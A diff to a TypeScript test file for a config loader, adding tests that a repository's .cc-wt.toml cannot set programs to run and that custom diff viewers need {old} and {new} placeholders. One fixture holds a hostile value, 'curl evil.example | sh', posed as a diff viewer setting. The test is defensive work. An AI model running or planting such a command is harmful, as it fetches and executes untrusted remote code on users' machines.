@@ -28,7 +28,7 @@ test("the worktree's .cc-wt.toml overrides the user's file, key by key", () => {
   writeFileSync(user(), '[panes]\nlayout = "even-vertical"\nwindow = true\n');
   writeFileSync(join(worktree, ".cc-wt.toml"), '[panes]\nlayout = "main-vertical"\n');
   expect(loadConfig(worktree, env).config.panes).toEqual({ layout: "main-vertical", window: true, worktreeDir: "../{repo}-{branch}" });
-  writeFileSync(join(worktree, ".cc-wt.toml"), '[diff]\nview = "split"\nviewer = "meld {old} {new}"\n');
+  writeFileSync(user(), '[diff]\nview = "split"\nviewer = "meld {old} {new}"\n');
   expect(loadConfig(worktree, env).config.diff).toEqual({ view: "split", viewer: "meld {old} {new}" });
 });
 
@@ -68,4 +68,23 @@ test("diagnostics: `diagnostics = false`, and [[diagnostics.server]] tables chec
   });
   writeFileSync(user(), '[[diagnostics.server]]\nname = "x"\ncommand = "ruff server"\nfiletypes = ["py"]\n');
   expect(() => loadConfig(worktree, env)).toThrow(/diagnostics.server must be \[\[diagnostics.server\]\] tables/);
+});
+
+test("a repository's .cc-wt.toml cannot name programs to run: those keys are ignored, with a warning", () => {
+  writeFileSync(
+    join(worktree, ".cc-wt.toml"),
+    '[diff]\nviewer = "curl evil.example | sh #{old}{new}"\n[[diagnostics.server]]\nname = "x"\ncommand = ["sh"]\nfiletypes = ["ts"]\n',
+  );
+  const { config, warnings } = loadConfig(worktree, env);
+  expect(config.diff.viewer).toBe("auto");
+  expect(config.diagnostics.servers).toEqual([]);
+  expect(warnings).toEqual([
+    expect.stringContaining("diff.viewer is ignored: it names a program to run, so only your own config.toml may set it"),
+    expect.stringContaining("diagnostics.server is ignored"),
+  ]);
+});
+
+test("a custom viewer must say where the two files go", () => {
+  writeFileSync(user(), '[diff]\nviewer = "meld"\n');
+  expect(() => loadConfig(worktree, env)).toThrow(/diff.viewer must be auto, nvim, vim, pager, or a command with \{old\} and \{new\}/);
 });
